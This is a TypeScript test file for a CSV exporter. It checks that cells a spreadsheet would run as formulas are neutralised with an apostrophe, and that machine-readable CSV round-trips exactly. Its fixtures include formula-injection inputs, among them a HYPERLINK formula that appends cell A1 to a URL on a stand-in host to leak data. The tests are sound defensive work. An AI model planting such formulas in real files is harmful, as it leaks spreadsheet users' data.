/**
 * The two kinds of CSV, read back by another library (csv-parse) than the one
 * that writes them: a people file keeps every hostile cell one cell, as text
 * that no spreadsheet runs, and its numbers numbers; a machine file gives back
 * exactly what went in.
 */
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { asTextForPeople, csvForMachines, csvForPeople, machineCsvWriter, type CsvRow } from "./csv.server";

type ReadCell = { value: string; quoted: boolean };

/** Each cell as text, with whether the file quoted it. */
function readBack(text: string, delimiter: string): ReadCell[][] {
  return parse(text, {
    delimiter,
    bom: true,
    cast: (value, context) => ({ value, quoted: context.quoting }),
  }) as unknown as ReadCell[][];
}
const values = (rows: ReadCell[][]) => rows.map((row) => row.map((c) => c.value));

// What farmers and buyers can type into a name, an address or a note.
const HOSTILE = [
  "Nguyen;=1+1",
  '=HYPERLINK("http://x.example/?d="&A1,"Nhấn vào đây")',
  "+84 912 345 601",
  "@SUM(1+1)",
  "\t=1+1",
  "\tRau muống",
  "\r=1+1",
  "  =1+1",
  "\n-1+1",
  "＝1+1",
  "＋84912345601",
  "－5",
  "＠SUM(A1)",
  "\u3000＝1",
  "-2250",
  '"Hộ" Lê, thôn 3',
  "dòng một\r\ndòng hai\nba",
  "Vải thiều Bác Thịnh",
  // The same words decomposed (NFD), as some phones type them: kept byte for byte.
  "Vải thiều Bác Thịnh".normalize("NFD"),
  "0912 345 601",
  "0011001234567",
  "",
];

describe("asTextForPeople: what a spreadsheet would run or turn into a number gets an apostrophe", () => {
  it.each([
    ["=1+1", "equals"],
    ["+1", "plus"],
    ["-1", "minus"],
    ["@SUM(A1)", "at"],
    ["\tfoo", "a leading tab, even before plain text"],
    ["\rfoo", "a leading carriage return, even before plain text"],
    ["＝1+1", "full-width equals"],
    ["＋84912345601", "full-width plus"],
    ["－1", "full-width minus"],
    ["＠SUM(A1)", "full-width at"],
    ["﹦1", "small equals (another compatibility form)"],
    ["   =1+1", "spaces, then a formula"],
    ["\u00a0+1", "a no-break space, then a formula"],
    ["\u3000＝1", "an ideographic space, then a full-width formula"],
    ["\n\t@x", "a line break and a tab, then a formula"],
    ["+84 912 345 601", "an international phone number"],
    ["0912345601", "a phone number of digits only (Excel would drop the 0)"],
    ["0011001234567", "an account number (Excel would drop the 0s)"],
    ["０９１２３４５６０１", "full-width digits only"],
  ])("%j (%s)", (text) => {
    expect(asTextForPeople(text)).toBe(`'${text}`);
  });

  it.each([
    ["Nguyen;=1+1", "a formula that does not start the cell"],
    ["a=b", "an equals sign inside"],
    ["0912 345 601", "a phone number as people write it"],
    ["12 kg", "a number with words"],
    ["'=1+1", "already led by an apostrophe"],
    ["Lê Văn Tám", "Vietnamese"],
    ["", "empty"],
    [" ", "only a space"],
  ])("%j (%s) stays as it is", (text) => {
    expect(asTextForPeople(text)).toBe(text);
  });
});

describe("a CSV for people", () => {
  const header = ["Tên", "Số tiền (đồng)"];
  const rows: CsvRow[] = HOSTILE.map((text, i) => [text, i * 1000 - 5000]);
  const file = csvForPeople(header, rows);

  it("starts with a UTF-8 byte order mark and the headings, with no sep= line, and ends every line with CRLF", () => {
    const bytes = Buffer.from(file, "utf8");
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(file.slice(1).startsWith('"Tên";"Số tiền (đồng)"\r\n')).toBe(true);
    expect(file).not.toMatch(/sep=/i);
    expect(file.endsWith("\r\n")).toBe(true);
  });

  it("reads back, split on ;, as one cell per text, each quoted, each guarded, nothing else changed", () => {
    const [head, ...lines] = readBack(file, ";");
    expect(head).toEqual(header.map((value) => ({ value, quoted: true })));
    expect(lines).toHaveLength(HOSTILE.length);
    for (const [i, text] of HOSTILE.entries()) {
      expect(lines[i], JSON.stringify(text)).toHaveLength(2);
      expect(lines[i][0], JSON.stringify(text)).toEqual({ value: asTextForPeople(text), quoted: true });
    }
    const byText = new Map(HOSTILE.map((text, i) => [text, lines[i][0].value]));
    // The cells the issue names, as the file holds them.
    expect(byText.get("Nguyen;=1+1")).toBe("Nguyen;=1+1");
    expect(byText.get('=HYPERLINK("http://x.example/?d="&A1,"Nhấn vào đây")')).toBe(
      '\'=HYPERLINK("http://x.example/?d="&A1,"Nhấn vào đây")',
    );
    expect(byText.get("+84 912 345 601")).toBe("'+84 912 345 601");
    expect(byText.get("@SUM(1+1)")).toBe("'@SUM(1+1)");
    expect(byText.get("\t=1+1")).toBe("'\t=1+1");
    expect(byText.get('"Hộ" Lê, thôn 3')).toBe('"Hộ" Lê, thôn 3');
    expect(byText.get("dòng một\r\ndòng hai\nba")).toBe("dòng một\r\ndòng hai\nba");
    expect(byText.get("Vải thiều Bác Thịnh".normalize("NFD"))).toBe("Vải thiều Bác Thịnh".normalize("NFD"));
    expect(byText.get("0912 345 601")).toBe("0912 345 601");
    // No cell a spreadsheet reads starts a formula.
    for (const line of lines) expect(line[0].value.normalize("NFKC")).not.toMatch(/^\s*[=+\-@]|^[\t\r]/);
  });

  it("writes numbers bare, negative ones too, so Excel sums them", () => {
    const lines = readBack(file, ";").slice(1);
    for (const [i, line] of lines.entries()) {
      expect(line[1]).toEqual({ value: String(i * 1000 - 5000), quoted: false });
    }
    expect(file).toContain(";-5000\r\n");
    expect(file).toContain(";0\r\n");
    expect(file).not.toContain("'-5000");
  });

  it("leaves an absent value an empty cell, and refuses fractions, infinities and ragged rows", () => {
    expect(csvForPeople(["a", "b", "c"], [[null, undefined, ""]])).toBe('\uFEFF"a";"b";"c"\r\n;;""\r\n');
    expect(() => csvForPeople(["n"], [[2.5]])).toThrow(/whole numbers/);
    expect(() => csvForPeople(["n"], [[Number.NaN]])).toThrow(/whole numbers/);
    expect(() => csvForPeople(["n"], [[2 ** 53]])).toThrow(/whole numbers/);
    expect(() => csvForPeople(["a", "b"], [["x"]])).toThrow(/row 1 has 1 cells for 2 columns/);
  });
});

describe("a CSV for machines", () => {
  const header = ["id", "title", "price"];
  const rows: CsvRow[] = HOSTILE.map((text, i) => [`SKU-${i}`, text, i * 1000 - 5000]);

  it("is RFC 4180: no byte order mark, commas, CRLF, quotes only where needed", () => {
    const file = csvForMachines(header, rows);
    expect(file.startsWith("id,title,price\r\n")).toBe(true);
    expect(file.endsWith("\r\n")).toBe(true);
    const lines = readBack(file, ",").slice(1);
    const quoted = new Map(HOSTILE.map((text, i) => [text, lines[i][1].quoted]));
    expect(quoted.get("Nguyen;=1+1")).toBe(false);
    expect(quoted.get("@SUM(1+1)")).toBe(false);
    expect(quoted.get('"Hộ" Lê, thôn 3')).toBe(true);
    expect(quoted.get("dòng một\r\ndòng hai\nba")).toBe(true);
    expect(file).toContain('SKU-1,"=HYPERLINK(""http://x.example/?d=""&A1,""Nhấn vào đây"")",-4000\r\n');
  });

  it.each([
    [",", "CSV"],
    ["\t", "TSV"],
  ] as const)("gives back every title exactly as it went in (%j, %s)", (delimiter, _kind) => {
    const file = csvForMachines(header, rows, { delimiter });
    expect(file.charCodeAt(0)).not.toBe(0xfeff);
    expect(values(readBack(file, delimiter))).toEqual([
      header,
      ...rows.map((row) => row.map((cell) => (typeof cell === "number" ? String(cell) : cell))),
    ]);
  });

  it("writes numbers as they are and refuses what is not a finite number or a ragged row", () => {
    expect(csvForMachines(["price"], [[4.5], [-2250]])).toBe("price\r\n4.5\r\n-2250\r\n");
    expect(() => csvForMachines(["price"], [[Number.POSITIVE_INFINITY]])).toThrow(/finite/);
    expect(() => csvForMachines(["a"], [["x", "y"]])).toThrow(/row 1 has 2 cells for 1 columns/);
  });

  it.each([",", "\t"] as const)("written piece by piece (%j), is the same file as written whole", (delimiter) => {
    const writer = machineCsvWriter(header, { delimiter });
    const pieces = [writer.header, writer.rows(rows.slice(0, 3)), writer.rows([]), writer.rows(rows.slice(3))];
    expect(pieces[2]).toBe("");
    expect(pieces.join("")).toBe(csvForMachines(header, rows, { delimiter }));
    expect(() => writer.rows([["only one"]])).toThrow(/row 1 has 1 cells for 3 columns/);
  });
});
